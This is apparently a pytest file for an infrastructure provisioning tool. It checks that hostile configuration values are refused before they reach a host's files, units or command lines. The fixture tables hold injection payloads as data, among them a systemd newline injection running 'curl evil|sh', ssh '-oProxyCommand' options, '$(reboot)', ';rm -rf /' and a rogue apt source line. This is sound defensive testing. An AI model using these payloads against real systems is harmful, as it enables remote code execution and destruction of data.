"""Hostile values per key: every string that reaches a host is checked for the place it lands.

One table, `HOSTILE`: for each stack key whose value ends up in a file, a unit, a config or
a command line on the host, the values an attacker (or a typo) would use against that place.
Each must be refused with a message naming the stack and that key, never a traceback, and
never reach the plan. When a key that reaches a host is added, add a row here.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from adapters.registry import REGISTRY
from infrakit.config import ConfigError, RawConfig, load, read_stack_file
from infrakit.plan import build_plan
from tests.conftest import StackFactory, _merge, load_values

ETH = dict(read_stack_file("eth-hoodi-validator").values)
EXISTING = {"target": "existing", "serverType": None, "image": None, "location": None, "backups": None, "labels": None}


def at(path: str, value: Any) -> dict[str, Any]:
    """`at("web.domain", x)` -> {"web": {"domain": x}} (an override for the stack factory)."""
    head, *rest = path.split(".")
    return {head: at(".".join(rest), value) if rest else value}


WEB = {
    "enabled": True,
    "domain": "rpc.example.org",
    "acmeEmail": "ops@example.org",
    "rpcAllowCidrs": ["198.51.100.0/24"],
}
NEWLINE_UNIT = "x\n[Service]\nExecStartPre=/bin/sh -c 'curl evil|sh'"

# key path -> (values that must be refused, how to wrap each into stack overrides)
HOSTILE: dict[str, list[Any]] = {
    # written into node.env / unit names / sudoers / home paths
    "access.adminUser": ["ops\nroot", "-oProxyCommand=x", "root", "../etc", "ops user"],
    # ufw rules and sshd: the world, however it is spelled, needs the explicit opt-in
    "access.adminCidrs": [
        ["0.0.0.0/1", "128.0.0.0/1"],
        ["::/1", "8000::/1"],
        ["::ffff:0:0/96"],
        ["0.0.0.0/0"],
        ["10.0.0.0/8\n0.0.0.0/0"],
        ["::/0"],
    ],
    # the SSH target: a host name that is an address typo or an ssh option
    "host.address": [
        "300.1.2.3",
        "1.2.3",
        "-oProxyCommand=touch /tmp/x",
        "host name",
        "host\nx",
        "a..b",
        "-leading.example.org",
    ],
    "host.user": ["-oProxyCommand=x", "ops\nroot", "ops;id"],
    # sysctl.d lines: a value must not start another line or a comment
    "hardening.sysctl.overrides": [
        {"net.ipv4.ip_forward": "1\nkernel.modules_disabled = 1"},
        {"net.ipv4.ip_forward": "$(reboot)"},
        {"net.ipv4.ip_forward": "1 # x"},
        {"net.ipv4.ip_forward": "-x"},
        {"net.ipv4.ip_forward": "a=b"},
    ],
    # sshd: weak or unknown algorithms are refused, not passed through
    "hardening.ssh.kexAlgorithms": [
        ["diffie-hellman-group1-sha1"],
        ["ecdh-sha2-nistp256"],
        ["made-up@example.org"],
        ["curve25519-sha256,diffie-hellman-group1-sha1"],
        [],
    ],
    "hardening.ssh.ciphers": [["3des-cbc"], ["aes128-cbc"], ["arcfour"], ["none"]],
    "hardening.ssh.macs": [["hmac-md5"], ["hmac-sha1"], ["umac-64@openssh.com"], ["hmac-sha2-256"]],
    # fail2ban ignoreip: an ignore list that covers everyone bans no one
    "hardening.fail2ban.ignoreCidrs": [["0.0.0.0/0"], ["0.0.0.0/1", "128.0.0.0/1"], ["::/0"]],
    # chrony sources lines
    "hardening.timeSync.servers": [
        ["300.1.2.3"],
        ["-x"],
        ["pool.ntp.org\nserver evil.example"],
        ["ntp.example.org iburst"],
    ],
    # apt-get's command line
    "hardening.extraPackages": [
        ["-oAPT::Get::AllowUnauthenticated=true"],
        ["vim;id"],
        ["a b"],
        ["x"],
        ["Vim"],
        ["../x.deb"],
    ],
    # df / status page paths: confined, normalised
    "monitoring.dataDirs": [
        ["/var/../etc"],
        ["var/lib"],
        ["/"],
        ["/var/lib/x\n/etc"],
        ["/var//lib"],
        ["/var/lib/."],
        ["/var/lib/"],
    ],
    # checks.json -> systemctl / socket / curl
    "monitoring.checks": [
        [{"name": "u", "kind": "systemd", "target": NEWLINE_UNIT}],
        [{"name": "u", "kind": "systemd", "target": "--now"}],
        [{"name": "t", "kind": "tcp", "target": "300.1.2.3:80"}],
        [{"name": "t", "kind": "tcp", "target": "-x:80"}],
        [{"name": "t", "kind": "tcp", "target": "127.0.0.1:99999"}],
        [{"name": "h", "kind": "http", "target": "http://127.0.0.1/\nx"}],
        [{"name": "h", "kind": "http", "target": "http://127.0.0.1/'$(id)'"}],
        [{"name": "h", "kind": "http", "target": "http://127.0.0.1/", "headers": {"X-A": "b\r\nHost: evil"}}],
        [{"name": "h", "kind": "http", "target": "http://127.0.0.1/", "headers": {"X A": "b"}}],
    ],
    # nginx / caddy / certbot: caddy expands {$VAR} and {env.VAR}, nginx ends a directive at ';'
    "web.acmeDirectory": [
        "https://{$ACME_HOST}/directory",
        "https://ca.example.org/dir;return 200",
        "https://ca.example.org/ dir",
        "https://user:pw@ca.example.org/dir",
        "https://ca.example.org/dir?x=1",
        "http://ca.example.org/dir",
        "https://300.1.2.3/dir",
        "https://ca.example.org/{env.HOME}",
        'https://ca.example.org/"x',
    ],
    "web.domain": ["{$DOMAIN}", "rpc.example.org;", "rpc.example.org\nx", "rpc.example.org {", "*.example.org"],
    "web.acmeEmail": ["{$EMAIL}@example.org", "ops@example.org\nx", "ops@{$X}.org"],
    "web.rpcBasicAuthUser": ["-x", "a:b", "a\nb", "{$USER}"],
    "web.rpcAllowCidrs": [["0.0.0.0/1", "128.0.0.0/1"], ["::/1", "8000::/1"]],
    "web.rpcPath": ["/rpc;", "/rpc {", "/../x"],
}
# Keys under chainSettings land on client command lines (the adapter renders the flags).
HOSTILE_ETH: dict[str, list[Any]] = {
    "chainSettings.validator.graffiti": [
        "--suggested-fee-recipient=0x0000000000000000000000000000000000000000",
        "-x",
        "a\nb",
        "- x",
    ],
    "chainSettings.consensus.checkpointSyncUrl": [
        "https://{$X}/",
        "-https://a.org",
        "https://a.org/ --x",
        "https://a.org/?q=--x",
    ],
    "chainSettings.artifacts.lockFile": ["../../etc/x.toml", "/tmp/../etc/x.toml", "x.toml\n"],
    "chainSettings.artifacts.baseUrl": ["https://u:p@mirror.example/", "https://mirror.example/{$X}"],
}


# Monad's keys land in node.toml, apt sources, a udev rule and the wipe of a TrieDB drive.
MONAD = dict(read_stack_file("monad-testnet-validator").values)
PUBKEY = "02" + "ab" * 32
HOSTILE_MONAD: dict[str, list[Any]] = {
    "chainSettings.nodeName": ["-x", "a b", "a\n[bootstrap]", 'a"b'],
    "chainSettings.version": ["-0.16.3", "0.16.3 --x", "0.16.3;rm -rf /", "0.16.3\nx"],
    "chainSettings.peers": [
        [{"address": "-oProxyCommand=x:8000", "secp256k1Pubkey": PUBKEY}],
        [{"address": "300.1.2.3:8000", "secp256k1Pubkey": PUBKEY}],
        [{"address": "a.org:8000\n[x]", "secp256k1Pubkey": PUBKEY}],
        [{"address": "a.org:8000", "secp256k1Pubkey": PUBKEY + '"'}],
    ],
    "chainSettings.repository.uri": ["https://{$X}/", "file:///etc/", "https://a.org/ x", "https://u:p@a.org/"],
    "chainSettings.repository.suite": ["noble main", "-x", "noble\ndeb http://evil/ x"],
    "chainSettings.repository.components": [["main contrib"], ["-x"], ["main\nx"]],
    "chainSettings.repository.keyFile": ["../../etc/x.asc", "/etc/../x.asc", "x.gpg"],
    "chainSettings.triedb.device": ["/dev/disk/by-id/../../sda", "/dev/nvme1n1", "/dev/disk/by-id/x y"],
    "chainSettings.nodeConfigBase": ["../x.toml", "/etc/../x.toml", "x.yaml"],
}


def _cases(table: dict[str, list[Any]], base: str) -> list[Any]:
    return [
        pytest.param(base, key, value, id=f"{key}={value!r}"[:90]) for key, values in table.items() for value in values
    ]


def _overrides(key: str, value: Any) -> dict[str, Any]:
    if key.startswith("host."):
        return {"host": {**EXISTING, "address": "203.0.113.5", key.removeprefix("host."): value}}
    if key.startswith("web."):
        return {"web": {**WEB, key.removeprefix("web."): value}}
    return at(key, value)


@pytest.mark.parametrize(
    ("base", "key", "value"),
    [*_cases(HOSTILE, "hcloud"), *_cases(HOSTILE_ETH, "eth"), *_cases(HOSTILE_MONAD, "monad")],
)
def test_hostile_value_is_refused_naming_the_key(stack_values: StackFactory, base: str, key: str, value: Any) -> None:
    chain = {"eth": ETH, "monad": MONAD}.get(base)
    values = _merge(chain, _overrides(key, value)) if chain else stack_values(**_overrides(key, value))
    with pytest.raises(ConfigError) as info:
        load_values(values, stack="hostile")
    message = str(info.value)
    top = key.split(".", maxsplit=1)[0]
    assert message.startswith("stack 'hostile': "), message
    assert f"infrakit:{top}" in message, f"{key}={value!r}: key not named in {message}"
    assert "Traceback" not in message


def test_every_table_key_is_a_real_key(stack_values: StackFactory, tmp_path: Path) -> None:
    """A row for a misspelt key would pass as 'unknown key': the table must name real keys.
    Each key loads with a harmless value (the test of the table itself)."""
    harmless: dict[str, Any] = {
        "access.adminUser": "ops2",
        "access.adminCidrs": ["192.0.2.0/24"],
        "host.address": "node-1.example.org",
        "host.user": "ops",
        "hardening.sysctl.overrides": {
            "net.ipv4.tcp_congestion_control": "bbr",
            "net.ipv4.tcp_rmem": "4096 87380 6291456",
            "net.ipv4.ip_forward": 0,
        },
        "hardening.ssh.kexAlgorithms": ["sntrup761x25519-sha512@openssh.com"],
        "hardening.ssh.ciphers": ["chacha20-poly1305@openssh.com"],
        "hardening.ssh.macs": ["hmac-sha2-512-etm@openssh.com"],
        "hardening.fail2ban.ignoreCidrs": ["192.0.2.0/24"],
        "hardening.timeSync.servers": ["ntp1.hetzner.de", "192.0.2.1"],
        "hardening.extraPackages": ["vim", "g++", "libc6-dev"],
        "monitoring.dataDirs": ["/var/lib/node"],
        "monitoring.checks": [
            {
                "name": "h",
                "kind": "http",
                "target": "http://127.0.0.1:8545/?a=b&c=d",
                "headers": {"Content-Type": "application/json"},
            },
            {"name": "t", "kind": "tcp", "target": "[::1]:30303"},
            {"name": "u", "kind": "systemd", "target": "systemd-journald.service"},
        ],
        "web.acmeDirectory": "https://localhost:14000/dir",
        "web.domain": "rpc.example.org",
        "web.acmeEmail": "ops+acme@example.org",
        "web.rpcBasicAuthUser": "reader",
        "web.rpcAllowCidrs": ["0.0.0.0/1"],
        "web.rpcPath": "/rpc/v1",
    }
    assert set(harmless) == set(HOSTILE), "give each HOSTILE key a harmless value here"
    for key, value in harmless.items():
        stack = load_values(stack_values(**_overrides(key, value)))
        if key != "web.rpcBasicAuthUser":  # that one also needs its secret to plan
            build_plan(stack)
    eth_harmless = {
        "chainSettings.validator.graffiti": "my node",
        "chainSettings.consensus.checkpointSyncUrl": "https://checkpoint.example.org/",
        "chainSettings.artifacts.lockFile": "adapters/ethereum/artifacts.lock.toml",
        "chainSettings.artifacts.baseUrl": "https://mirror.example/artifacts",
    }
    assert set(eth_harmless) == set(HOSTILE_ETH)
    for key, value in eth_harmless.items():
        load_values(_merge(ETH, _overrides(key, value)))
    monad_harmless = {
        "chainSettings.nodeName": "acme-2",
        "chainSettings.version": "0.16.4",
        "chainSettings.peers": [{"address": "peer-1.example.org:8000", "secp256k1Pubkey": PUBKEY}],
        "chainSettings.repository.uri": "http://10.199.0.1:8080/repo/",
        "chainSettings.repository.suite": "bookworm",
        "chainSettings.repository.components": ["main", "testing"],
        "chainSettings.repository.keyFile": "adapters/monad/keys/category-labs.asc",
        "chainSettings.triedb.device": "/dev/disk/by-id/nvme-Samsung_SSD_990_PRO_2TB_X1",
        "chainSettings.nodeConfigBase": str(tmp_path / "testnet.toml"),
    }
    assert set(monad_harmless) == set(HOSTILE_MONAD)
    (tmp_path / "testnet.toml").write_text("chain_id = 10143\n")
    for key, value in monad_harmless.items():
        load_values(_merge(MONAD, _overrides(key, value)))


@pytest.mark.parametrize(
    "name", ["x\n[Unit]\nBefore=ssh.service", "-x", "a b", "../../etc", "a=b", "", ".hidden", "x" * 101]
)
def test_hostile_stack_name_is_refused(stack_values: StackFactory, name: str) -> None:
    """The stack name is written into node.env and unit files: a newline once injected a
    [Unit] section into a unit on a real host."""
    with pytest.raises(ConfigError) as info:
        load(RawConfig(name, stack_values()), REGISTRY)
    assert "stack name" in str(info.value) and "letters, digits" in str(info.value)
    with pytest.raises(ConfigError):
        read_stack_file(name)


def test_admin_cidrs_are_in_fail2ban_ignoreip_by_default(stack_values: StackFactory) -> None:
    """fail2ban once banned the admin's own address for an hour after a few mistyped logins;
    SSH and `apply` were refused until it expired."""
    config = load_values(stack_values()).config
    assert config.fail2ban_ignore == ["127.0.0.0/8", "::1/128", "198.51.100.0/24", "2001:db8:42::/48"]
    jail = next(
        f for p in build_plan(load_values(stack_values())).steps for f in p.step.files if f.name == "jail.local"
    )
    assert "ignoreip = 127.0.0.0/8 ::1/128 198.51.100.0/24 2001:db8:42::/48\n" in jail.content
    opted_out = load_values(stack_values(hardening={"fail2ban": {"ignoreAdminCidrs": False}})).config
    assert opted_out.fail2ban_ignore == ["127.0.0.0/8", "::1/128"]


def test_world_open_ssh_is_not_exempt_from_fail2ban(stack_values: StackFactory) -> None:
    """With SSH open to the world (opted in), ignoring the admin CIDRs would exempt everyone."""
    config = load_values(
        stack_values(access={"adminCidrs": ["0.0.0.0/1", "128.0.0.0/1"], "allowSshFromAnywhere": True})
    ).config
    assert config.fail2ban_ignore == ["127.0.0.0/8", "::1/128"]


def test_admin_and_ignore_cidrs_together_covering_everyone_are_refused(stack_values: StackFactory) -> None:
    with pytest.raises(ConfigError, match="fail2ban would ban no one"):
        load_values(
            stack_values(access={"adminCidrs": ["0.0.0.0/1"]}, hardening={"fail2ban": {"ignoreCidrs": ["128.0.0.0/1"]}})
        )


def test_ssh_kex_pq_first_and_the_classical_fallback_is_a_key(stack_values: StackFactory) -> None:
    ssh = load_values(stack_values()).config.hardening.ssh
    assert ssh.kex[0] == "sntrup761x25519-sha512@openssh.com" and "curve25519-sha256" in ssh.kex
    pq_only = load_values(stack_values(hardening={"ssh": {"classicalKexFallback": False}})).config.hardening.ssh
    assert pq_only.kex == ["sntrup761x25519-sha512@openssh.com"]
